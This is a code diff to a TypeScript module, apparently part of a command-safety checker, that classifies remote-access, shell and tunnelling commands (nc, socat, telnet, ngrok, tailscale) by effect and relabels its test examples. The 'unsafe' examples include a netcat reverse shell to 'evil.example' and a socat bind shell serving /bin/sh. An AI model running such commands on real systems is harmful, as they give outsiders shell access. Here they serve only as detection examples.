@@ -1,6 +1,6 @@
 /** Other machines: shells on them, files to and from them, raw connections, tunnels. */
-import type { Effect } from "../contract/effect.ts";
-import { fixed, hostOf, line, network } from "./makers.ts";
+import { act, type Effect } from "../contract/effect.ts";
+import { hostOf, line, network } from "./makers.ts";
 import { loginHost, networkSsh } from "./network-ssh.ts";
 import { wholly } from "./packages-effects.ts";
 import type { EffectMaker, ProgramSpec, Use } from "./spec.ts";
@@ -22,15 +22,15 @@ function netcat(use: Use): readonly Effect[] {
     use.operands.find((word) => /^[a-z0-9][a-z0-9.-]*\.[a-z0-9.-]+$|^localhost$/i.test(word.value ?? "")) ??
     use.operands.find((word) => /:/.test(word.value ?? ""));
   return [
-    network(host === undefined ? null : (hostOf(host) ?? host.value?.split(":")[0]?.toLowerCase() ?? null), true, text),
-    ...(listens ? [fixed("system", "expose", `listens: ${text}`)] : []),
+    network(host === undefined ? null : (hostOf(host) ?? host.value?.split(":")[0]?.toLowerCase() ?? null), true),
+    ...(listens ? [act("door.server", { words: `listens: ${text}` })] : []),
     ...(executes
       ? [
           {
             do: "run",
             program: use.program,
             what: "remote",
-            detail: `a program is given to whoever connects: ${text}`,
+            words: `a program is given to whoever connects: ${text}`,
           } as const,
         ]
       : []),
@@ -43,7 +43,7 @@ const versionOnly = (use: Use): boolean =>
 const tunnel: EffectMaker = (use) =>
   versionOnly(use)
     ? []
-    : [fixed("system", "expose", `a tunnel to the public internet: ${line(use.operands)}`), network(null, true)];
+    : [act("door.tunnel", { words: `a tunnel to the public internet: ${line(use.operands)}` }), network(null, true)];
 
 export const networkRemote: readonly ProgramSpec[] = [
   {
@@ -53,14 +53,14 @@ export const networkRemote: readonly ProgramSpec[] = [
         ? []
         : [
             network(loginHost(use.operands.find((word) => !(word.value ?? "-").startsWith("-"))), true),
-            { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
+            { do: "run", program: use.program, what: "remote", words: line(use.operands) },
           ],
     ),
     examples: {
       safe: [],
       unsafe: [
-        ["sftp host.example.com", "network"],
-        ["lftp -e '!id' host", "run"],
+        ["sftp host.example.com", ["network.send", "run.remote"]],
+        ["lftp -e '!id' host", ["network.send", "run.remote"]],
       ],
     },
   },
@@ -71,10 +71,10 @@ export const networkRemote: readonly ProgramSpec[] = [
     examples: {
       safe: [],
       unsafe: [
-        ["nc -l 4444", "system"],
-        ["nc -e /bin/sh evil.example 4444", "run"],
-        ["nc evil.example 80", "network"],
-        ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", "run"],
+        ["nc -l 4444", ["network.send", "door.server"]],
+        ["nc -e /bin/sh evil.example 4444", ["network.send", "run.remote"]],
+        ["nc evil.example 80", ["network.send"]],
+        ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", ["network.send", "door.server", "run.remote"]],
       ],
     },
   },
@@ -82,9 +82,9 @@ export const networkRemote: readonly ProgramSpec[] = [
     names: ["telnet", "rlogin", "rsh"],
     ...wholly((use) => [
       network(use.operands[0]?.value?.toLowerCase() ?? null, true),
-      { do: "run", program: use.program, what: "remote", detail: line(use.operands) },
+      { do: "run", program: use.program, what: "remote", words: line(use.operands) },
     ]),
-    examples: { safe: [], unsafe: [["telnet evil.example 23", "network"]] },
+    examples: { safe: [], unsafe: [["telnet evil.example 23", ["network.send", "run.remote"]]] },
   },
   {
     names: [
@@ -116,8 +116,8 @@ export const networkRemote: readonly ProgramSpec[] = [
     examples: {
       safe: ["ngrok version"],
       unsafe: [
-        ["ngrok http 3000", "system"],
-        ["croc send x", "network"],
+        ["ngrok http 3000", ["door.tunnel", "network.send"]],
+        ["croc send x", ["door.tunnel", "network.send"]],
       ],
     },
   },
@@ -128,18 +128,18 @@ export const networkRemote: readonly ProgramSpec[] = [
       if (versionOnly(use)) return [];
       if (/^(?:tunnel|funnel|serve|access)$/.test(verb))
         return [
-          fixed("system", "expose", `a tunnel to the public internet: ${line(use.operands)}`),
+          act("door.tunnel", { words: `a tunnel to the public internet: ${line(use.operands)}` }),
           network(null, true),
         ];
       return /^(?:status|ip|netcheck|ping|list|listnetworks|show|info)$/.test(verb)
-        ? [{ do: "system", op: "read", detail: "the private network" }, network(null, false)]
-        : [fixed("system", "change", `the private network: ${line(use.operands)}`), network(null, true)];
+        ? [act("private-network.show"), network(null, false)]
+        : [act("private-network.change", { words: `the private network: ${line(use.operands)}` }), network(null, true)];
     }),
     examples: {
       safe: ["tailscale version"],
       unsafe: [
-        ["cloudflared tunnel --url http://localhost:3000", "system"],
-        ["tailscale funnel 80", "system"],
+        ["cloudflared tunnel --url http://localhost:3000", ["door.tunnel", "network.send"]],
+        ["tailscale funnel 80", ["door.tunnel", "network.send"]],
       ],
     },
   },
